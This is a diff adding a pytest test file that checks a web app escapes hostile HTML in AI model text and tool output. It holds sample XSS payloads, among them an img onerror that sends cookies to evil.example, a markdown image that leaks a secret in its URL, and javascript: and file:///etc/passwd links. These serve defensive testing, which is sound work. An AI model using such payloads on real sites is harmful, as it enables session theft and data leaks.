@@ -1,0 +1,57 @@
+"""Model text and tool output are inert: hostile strings render as text."""
+import pytest
+
+from webapp.render import linkify_result, markdown
+
+HOSTILE = [
+    '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
+    '<div hx-get="/c/new" hx-trigger="load">x</div>',
+    "<script>alert(1)</script>",
+    '<a href="javascript:alert(1)">click</a>',
+    "<iframe src=//evil.example></iframe>",
+    '<svg onload="alert(1)">',
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_raw_html_in_model_text_is_escaped(text):
+    html = str(markdown(text))
+    assert "<img" not in html and "<script" not in html and "<iframe" not in html and "<svg" not in html
+    assert "<div hx-get" not in html and "<a href=\"javascript" not in html
+    assert "&lt;" in html
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_raw_html_in_tool_results_is_escaped(text):
+    html = str(linkify_result(text))
+    assert "<" not in html.replace("<a href=\"/preview", "").replace("<a href=\"http", "").replace("</a>", "")
+
+
+def test_markdown_images_never_load():
+    html = str(markdown("![leak](https://evil.example/p.png?secret=abc) ![x](data:image/png;base64,AAAA)"))
+    assert "<img" not in html
+
+
+@pytest.mark.parametrize("link", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<b>x</b>",
+                                  "vbscript:msgbox", "file:///etc/passwd"])
+def test_unsafe_link_schemes_stay_text(link):
+    html = str(markdown(f"[click]({link})"))
+    assert "<a " not in html
+
+
+def test_links_open_safely_and_show_where_they_go():
+    html = str(markdown("[your bank](https://evil.example/login)"))
+    assert 'rel="noopener noreferrer nofollow"' in html and 'target="_blank"' in html
+    assert '<span class="link-target">(https://evil.example/login)</span>' in html
+
+
+def test_markdown_still_formats():
+    html = str(markdown("# Title\n\n- one\n- **two**\n\n`code` and a [link](https://example.org)"))
+    assert "<h1>Title</h1>" in html and "<strong>two</strong>" in html and "<code>code</code>" in html
+
+
+def test_tool_result_paths_and_urls_become_links_and_nothing_else():
+    html = str(linkify_result('found /home/u/Documents/tax_2026.pdf and https://example.org/a?b=1 "<b>"'))
+    assert '<a href="/preview?path=%2Fhome%2Fu%2FDocuments%2Ftax_2026.pdf" class="path-link">' in html
+    assert '<a href="https://example.org/a?b=1" rel="noopener noreferrer nofollow" target="_blank">' in html
+    assert "&lt;b&gt;" in html
